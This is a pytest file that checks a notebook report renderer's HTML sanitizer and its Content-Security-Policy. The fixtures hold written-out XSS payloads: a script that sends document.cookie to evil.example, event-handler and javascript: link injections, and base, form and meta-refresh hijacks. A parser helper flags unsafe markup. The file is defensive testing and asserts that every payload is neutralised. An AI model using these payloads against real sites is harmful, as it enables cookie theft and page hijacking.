"""Rendering treats every output of a code cell as untrusted (analysis.report.render).

Payloads go in as a kernel would hand them over (text/markdown, text/html,
image/svg+xml, application/javascript, widget state, coloured tracebacks); what comes
out is checked with the standard library's HTML parser: no script but the page's own,
no event-handler attribute, no javascript:/data: link, no style attribute, and the
payload's words still readable as text where it was text. The pages' policy carries
a sha256 for each of its own inline scripts and styles and no 'unsafe-inline'.
"""

from __future__ import annotations

import base64
import hashlib
import html
import re
from html.parser import HTMLParser

import nbformat
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from analysis.report.render import clean_html, csp_for, markdown_html, render_html

LEAK = "<script>location.href='https://evil.example/leak?'+document.cookie</script>"
SVG = "<svg onload=alert(1)>"
IMG = "<img src=x onerror=alert(1)>"


class Tags(HTMLParser):
    """Every start tag with its attributes, the text, and the text of each script/style element."""

    def __init__(self, markup: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.text: list[str] = []
        self.inline: list[tuple[str, str]] = []
        self._open: str | None = None
        self.feed(markup)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, {k: v or "" for k, v in attrs}))
        if tag in ("script", "style"):
            self._open = tag
            self.inline.append((tag, ""))

    def handle_endtag(self, tag):
        if tag == self._open:
            self._open = None

    def handle_data(self, data):
        if self._open:
            self.inline[-1] = (self._open, self.inline[-1][1] + data)
        else:
            self.text.append(data)

    def unsafe(self) -> list[str]:
        """Event handlers, script-bearing elements and script/data links."""
        found = []
        for tag, attrs in self.tags:
            if tag in ("svg", "iframe", "object", "embed", "math", "form", "base"):
                found.append(f"<{tag}>")
            for key, value in attrs.items():
                if key.startswith("on"):
                    found.append(f"<{tag} {key}>")
                url = re.sub(r"[\x00-\x20]", "", value).lower()  # browsers drop tabs and newlines in URLs
                if key in ("href", "src", "action", "formaction") and url.startswith(
                        ("javascript:", "vbscript:", "data:text")):
                    found.append(f"<{tag} {key}={value}>")
        return found


def _sha(text: str) -> str:
    return "'sha256-" + base64.b64encode(hashlib.sha256(text.encode("utf-8")).digest()).decode("ascii") + "'"


# --------------------------------------------------------------------------- #
# the sanitizer
# --------------------------------------------------------------------------- #
@pytest.mark.parametrize("payload", [
    "<script>alert(1)</script>", LEAK, SVG, IMG, "<iframe src=javascript:alert(1)></iframe>",
    "<a href='javascript:alert(1)'>x</a>", "<b onmouseover=alert(1)>x</b>", "<style>*{color:red}</style>",
    "<object data=data:text/html,x></object>", "<math><mtext><script>alert(1)</script></mtext></math>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>',
    "<img src=x onerror=alert(1)//", "<details open ontoggle=alert(1)>", '<p style="background:url(//evil.example)">',
])
def test_markdown_output_shows_raw_html_as_text(payload):
    out = markdown_html(f"rates range from 6% (**{payload}**) to 16%")
    page = Tags(out)
    assert page.unsafe() == [] and not page.inline, out
    assert not any("style" in attrs for _, attrs in page.tags), out
    assert "<" in "".join(page.text) or "javascript" not in payload  # the payload is readable text


FRAGMENTS = st.sampled_from([
    "<script>", "</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "javascript:alert(1)",
    "JaVa&#x09;script:", "[x](", "](", ")", "**", "`", "<a href=", '"', "'", ">", "<", "&#x3C;", "&lt;", "<!--",
    "-->", "<style>", "</style>", "\n", " ", "data:text/html,", " on", "error=", "load=", "<iframe", " srcdoc=",
    "<math>", "<![CDATA[", "</", "x", "<details open ontoggle=", "style=", "<base href=//evil.example>", "$",
])


@settings(max_examples=300, deadline=None)
@given(st.lists(FRAGMENTS, max_size=40).map("".join))
def test_no_mix_of_payload_fragments_gets_through(text):
    for out in (markdown_html(text), clean_html(text)):
        page = Tags(out)
        assert page.unsafe() == [] and not page.inline, out
        assert not any(k in ("style", "srcdoc") for _, attrs in page.tags for k in attrs), out


def test_markdown_output_keeps_formatting_and_safe_links_but_drops_script_links():
    out = markdown_html("**bold** and [doc](https://doi.org/10.1/x), [mail](mailto:a@b.example), "
                        "[here](#section), [rel](tables/x.csv), [x](javascript:alert(1)), "
                        "[y](JaVaScRiPt:alert(1)), [d](data:text/html;base64,PHNjcmlwdD4=), [v](vbscript:msgbox)\n\n"
                        "- a list item")
    page = Tags(out)
    hrefs = [a.get("href") for t, a in page.tags if t == "a"]
    assert hrefs == ["https://doi.org/10.1/x", "mailto:a@b.example", "#section", "tables/x.csv", None, None, None, None]
    assert ("strong", {}) in page.tags and any(t == "li" for t, _ in page.tags)
    text = "".join(page.text)
    assert "bold" in text and "a list item" in text and "x" in text
    assert page.unsafe() == []


def test_markdown_output_headings_keep_their_anchor_for_the_contents():
    out = markdown_html("## Lift by arm")
    assert re.search(r'<h2 id="Lift-by-arm"', out), out


def test_pandas_tables_survive_and_lose_only_their_style():
    frame = pd.DataFrame({"arm": [LEAK, SVG], "rate": [0.1, 0.2]},
                         index=pd.MultiIndex.from_tuples([("a", IMG), ("a", "ok")], names=["k", "<i>n</i>"]))
    out = clean_html(frame._repr_html_())
    page = Tags(out)
    assert page.unsafe() == [] and not page.inline
    assert [a.get("class") for t, a in page.tags if t == "table"] == ["dataframe"]
    assert any("rowspan" in a for t, a in page.tags if t == "th")
    assert not any("style" in a for _, a in page.tags)
    text = "".join(page.text)
    assert "<script>location.href=" in text and SVG in text and IMG in text  # pandas escaped them: shown as text


def test_html_output_cannot_hijack_the_page():
    out = clean_html('<div id="toggle-code" class="x"><script>alert(1)</script><form action="https://evil.example">'
                     '<input name=q></form><base href="https://evil.example/"><meta http-equiv="refresh" '
                     'content="0;url=https://evil.example"><link rel=stylesheet href=//evil.example/c.css>'
                     '<a href="https://ok.example" target="_blank">ok</a></div>')
    page = Tags(out)
    assert {t for t, _ in page.tags} == {"div", "a"}, out
    assert "id" not in page.tags[0][1] and page.tags[0][1].get("class") == "x"
    assert page.tags[1][1].get("rel") == "noopener noreferrer"


# --------------------------------------------------------------------------- #
# the policy
# --------------------------------------------------------------------------- #
def test_csp_for_hashes_the_pages_own_inline_elements_and_allows_nothing_else_inline():
    page = "<html><head><style>body{margin:0}</style></head><body><script>\nrun();\n</script></body></html>"
    csp = csp_for(page)
    assert "'unsafe-inline'" not in csp and "unsafe-eval" not in csp
    assert f"style-src {_sha('body{margin:0}')}" in csp
    assert f"script-src {_sha(chr(10) + 'run();' + chr(10))}" in csp
    assert "default-src 'none'" in csp and "base-uri 'none'" in csp and "form-action 'none'" in csp
    assert "script-src 'none'" in csp_for("<style>a{}</style>")  # the index: no script at all


def test_csp_for_hashes_only_trusted_texts_when_told():
    page = "<style>own{}</style><style>injected{}</style><script>evil()</script>"
    csp = csp_for(page, trusted=["own{}"])
    assert _sha("own{}") in csp and _sha("injected{}") not in csp and _sha("evil()") not in csp
    assert "script-src 'none'" in csp


# --------------------------------------------------------------------------- #
# a whole page
# --------------------------------------------------------------------------- #
def _output(mime: str, value, kind: str = "display_data"):
    return nbformat.v4.new_output(kind, data={mime: value, "text/plain": "x"},
                                  **({"execution_count": 1} if kind == "execute_result" else {}))


@pytest.fixture()
def page(tmp_path):
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script><rect width="4" height="4"/></svg>'
    tb = ["\x1b[38;5;250mFile x.py\x1b[39m", f"\x1b[31mValueError\x1b[39m: {LEAK}"]
    nb = nbformat.v4.new_notebook(metadata={
        "kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"},
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {}, "x": "</script><script>alert(3)"}}})
    nb.cells = [
        nbformat.v4.new_markdown_cell("# Overview\n\nThe package's own text."),
        nbformat.v4.new_markdown_cell('<span style="color:red; font-size:2em;">An Exception was encountered</span>',
                                      metadata={"tags": ["papermill-error-cell-tag"]}),  # papermill's banner
        nbformat.v4.new_code_cell("display(Markdown(heading))", outputs=[_output(
            "text/markdown", f"**{LEAK}**: [x](javascript:alert(1)) and {IMG}")]),
        nbformat.v4.new_code_cell("styled", outputs=[_output(
            "text/html", f'<style>td{{color:red}}</style><table class="dataframe"><tr style="x"><td>{html.escape(SVG)}</td>'
            f'<td>{SVG}</td></tr></table>',
            "execute_result")]),
        nbformat.v4.new_code_cell("svg", outputs=[_output("image/svg+xml", svg)]),
        nbformat.v4.new_code_cell("js", outputs=[_output("application/javascript", "alert(4)")]),
        nbformat.v4.new_code_cell("widget", outputs=[_output("application/vnd.jupyter.widget-view+json",
                                                             {"model_id": "</script><script>alert(5)"})]),
        nbformat.v4.new_code_cell("mermaid", outputs=[_output("text/vnd.mermaid", "<img src=x onerror=alert(6)>")]),
        nbformat.v4.new_code_cell("fail()", outputs=[nbformat.v4.new_output(
            "error", ename="ValueError", evalue=LEAK, traceback=tb)]),
        nbformat.v4.new_code_cell("print(x)", outputs=[nbformat.v4.new_output(
            "stream", name="stdout", text=f"\x1b[38;2;255;0;0m{IMG}\x1b[0m\n")]),
    ]
    nbformat.write(nb, tmp_path / "nb.ipynb")
    return render_html(tmp_path / "nb.ipynb", tmp_path / "nb.html", title=LEAK).read_text(encoding="utf-8")


def test_page_runs_no_script_but_its_own(page):
    tags = Tags(page)
    assert tags.unsafe() == [], tags.unsafe()
    scripts = [text for tag, text in tags.inline if tag == "script"]
    assert len(scripts) == 1 and "toggle-code" in scripts[0]  # the code toggle, nothing else
    assert not [a for t, a in tags.tags if t == "script" and a.get("src")]
    assert "alert" not in scripts[0]
    assert not any("style" in attrs for _, attrs in tags.tags), "style attributes need 'unsafe-inline'"


def test_page_policy_allows_exactly_its_own_script_and_styles(page):
    tags = Tags(page)
    csp = [a["content"] for t, a in tags.tags if t == "meta" and a.get("http-equiv") == "Content-Security-Policy"]
    assert len(csp) == 1 and "'unsafe-inline'" not in csp[0], csp
    hashes = set(re.findall(r"'sha256-[^']+'", csp[0]))
    assert hashes == {_sha(text) for _, text in tags.inline}, (hashes, tags.inline)
    assert tags.tags.index(next(x for x in tags.tags if x[0] == "meta" and x[1].get("http-equiv"))) < \
        tags.tags.index(next(x for x in tags.tags if x[0] == "style"))  # the policy comes before the styles


def test_page_shows_untrusted_text_as_text(page):
    text = "".join(Tags(page).text)
    assert LEAK in text  # the title, the bold heading, the traceback: all readable, none run
    assert IMG in text  # the markdown output and the coloured stdout
    assert text.count(SVG) == 1  # the escaped cell of the html table; the raw one was removed
    assert "The package's own text." in text


def test_svg_outputs_become_inert_images(page):
    tags = Tags(page)
    images = [a["src"] for t, a in tags.tags if t == "img" and a.get("src", "").startswith("data:image/svg+xml")]
    assert len(images) == 1  # an <img> runs no script and loads nothing, whatever the SVG holds
    assert "<svg" not in page.split("<main", 1)[1]


def test_kernel_log_lines_leave_the_page_but_library_warnings_stay(tmp_path):
    """Issue 13, case 21: '[IPKernelApp] ERROR | KeyboardInterrupt caught in kernel.' reached pages."""
    noise = "[IPKernelApp] ERROR | KeyboardInterrupt caught in kernel.\n"
    warning = "/x.py:3: UserWarning: something a reader should see\n"
    nb = nbformat.v4.new_notebook(cells=[
        nbformat.v4.new_code_cell("1", outputs=[nbformat.v4.new_output("stream", name="stderr", text=noise)]),
        nbformat.v4.new_code_cell("2", outputs=[nbformat.v4.new_output("stream", name="stderr", text=noise + warning)]),
    ])
    path = tmp_path / "nb.ipynb"
    nbformat.write(nb, path)
    render_html(path, tmp_path / "nb.html")
    page = (tmp_path / "nb.html").read_text(encoding="utf-8")
    assert "IPKernelApp" not in page and "KeyboardInterrupt" not in page
    assert "something a reader should see" in page and page.count("Warnings and messages") == 1


def test_a_warning_reads_as_its_message_without_the_kernels_file_and_code_line(tmp_path):
    """Issue 12: the bank example's page showed '/tmp/ipykernel_25030/3434804451.py:4: AnalysisWarning: 308 row(s)
    with missing covariates were left out.' followed by the notebook's code line."""
    text = ("/tmp/ipykernel_25030/3434804451.py:4: AnalysisWarning: 308 row(s) with missing covariates were left out.\n"
            "  adjusted[outcome] = adj = adjusted_comparison(outcomes, channel_column, outcome, covariates,\n"
            "/usr/lib/python3/site-packages/lib.py:12: FutureWarning: a library's own note\n")
    nb = nbformat.v4.new_notebook(cells=[
        nbformat.v4.new_code_cell("1", outputs=[nbformat.v4.new_output("stream", name="stderr", text=text)])])
    path = tmp_path / "nb.ipynb"
    nbformat.write(nb, path)
    render_html(path, tmp_path / "nb.html")
    page = (tmp_path / "nb.html").read_text(encoding="utf-8")
    assert "AnalysisWarning: 308 row(s) with missing covariates were left out." in page
    assert "FutureWarning: a library&#39;s own note" in page or "FutureWarning: a library's own note" in page
    assert "ipykernel_25030" not in page and "adjusted_comparison(" not in page and "lib.py" not in page
